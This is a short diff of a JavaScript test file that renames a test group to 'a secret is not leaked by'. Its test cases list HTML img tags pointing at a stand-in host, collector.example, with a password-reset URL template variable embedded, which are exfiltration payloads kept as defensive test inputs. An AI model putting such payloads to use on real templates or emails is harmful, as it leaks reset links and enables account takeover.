@@ -28,7 +28,7 @@ describe('a secret may', () => {
   })
 })
 
-describe('a secret is sent to nobody else by', () => {
+describe('a secret is not leaked by', () => {
   test.each([
     '<img src="https://collector.example/?u={{ reset_url }}">',
     '<img src="https://collector.example/ {{ reset_url }}">',
